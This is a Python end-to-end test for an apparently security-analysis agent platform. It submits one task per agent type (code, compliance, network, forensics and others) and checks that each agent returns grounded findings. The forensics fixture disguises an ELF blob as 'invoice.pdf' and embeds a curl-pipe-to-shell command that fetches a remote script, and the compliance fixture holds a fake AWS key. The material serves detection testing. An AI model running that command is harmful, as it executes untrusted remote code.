"""Every built-in agent end to end through the API with the real embedded model (SmolLM2 on llama.cpp).

The small model's own findings are mostly uncited; what each agent must still deliver is a report
whose grounded findings come from its tools' evidence, and an analysis call that did not break it.
"""

from __future__ import annotations

import base64
from pathlib import Path
from typing import Any

import pytest

from tests.agents.test_network_team import _network_settings
from tests.agents.test_specialists import CODE_TREE, _auth_log
from tests.api.test_tasks_api import CODE, wait_status
from tests.conftest import serve
from tests.fixtures.dns import LocalDNSServer
from tests.fixtures.net import LocalHTTPServer, Route
from tests.fixtures.osint import add_mail_zones, intel_site_routes, valid_security_txt

AWS_KEY_ID = "AKIA" + "Q3EGRT5ZJ7NXW2PL"


def _tasks(http_server: LocalHTTPServer, osint_origin: str) -> dict[str, dict[str, Any]]:
    files = lambda items: {"files": [{"name": n, "content": c} for n, c in items.items()]}  # noqa: E731
    elf = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"curl http://203.0.113.7/x.sh | sh\x00" * 3
    return {
        "code_analysis": {"inputs": {"files": [CODE]}},
        "data_analysis": {"inputs": files({"d.csv": "a,b\n1,2\n2,4\n3,6\n,8\n1000,1\n"})},
        "incident_response": {"inputs": files({"auth.log": _auth_log()})},
        # shop/payment.py has public functions no test references: the test map states that itself.
        "testing": {
            "inputs": files(CODE_TREE | {"shop/payment.py": "def refund(order):\n    return order\n"})
        },
        "documentation": {"inputs": files(CODE_TREE)},
        "compliance_audit": {
            "inputs": files({"settings.env": f"DEBUG=true\nAWS_ACCESS_KEY_ID={AWS_KEY_ID}\n"})
        },
        "security_scan": {"target": http_server.url("/")},
        "network_analysis": {"target": http_server.url("/"), "allow_active_scanning": True},
        "domain_analysis": {"target": osint_origin + "/"},
        "performance_analysis": {"target": http_server.url("/app.js")},
        "forensics": {
            "inputs": {
                "files": [
                    {"name": "invoice.pdf", "content": base64.b64encode(elf).decode(), "encoding": "base64"}
                ]
            }
        },
    }


@pytest.mark.timeout(600)
async def test_every_agent_delivers_grounded_findings_with_the_embedded_model(
    tmp_path: Path, http_server: LocalHTTPServer, dns_server: LocalDNSServer
) -> None:
    add_mail_zones(dns_server)
    http_server.routes["/app.js"] = Route(
        headers=[("Content-Type", "application/javascript")], body=b"function f() { return 1; }\n" * 200
    )
    osint_origin = http_server.url("", host="plusall.test")
    http_server.routes.update(
        {k: v for k, v in intel_site_routes(osint_origin, security=valid_security_txt()).items() if k != "/"}
    )
    settings = _network_settings(dns_server, tool_allow_active_scanning=True)
    with serve(tmp_path, configured_llm=True, llm="auto", llm_max_tokens=256, **settings) as server:
        async with server.client() as client:
            types = {t["id"] for t in (await client.get("/api/v1/task-types")).json()}
            tasks = _tasks(http_server, osint_origin)
            assert set(tasks) <= types
            outcomes: dict[str, tuple[str, list[dict[str, Any]], list[str]]] = {}
            for task_type, fields in tasks.items():
                body = {"title": task_type, "task_type": task_type, **fields}
                created = await client.post("/api/v1/tasks", json=body)
                assert created.status_code == 201, created.text
                task = await wait_status(client, created.json()["id"], timeout=240)
                result = (await client.get(f"/api/v1/tasks/{task['id']}/result")).json()
                agents = [s["agent_id"] for s in task["plan"]["steps"]]
                outcomes[task_type] = (task["status"], result.get("findings", []), agents)
    for task_type, (status, findings, agents) in outcomes.items():
        assert status == "succeeded", (task_type, status)
        specialist = agents[0]
        grounded = [f for f in findings if f["grounded"] and f["agent_id"] == specialist]
        assert grounded, (task_type, [f["title"] for f in findings])
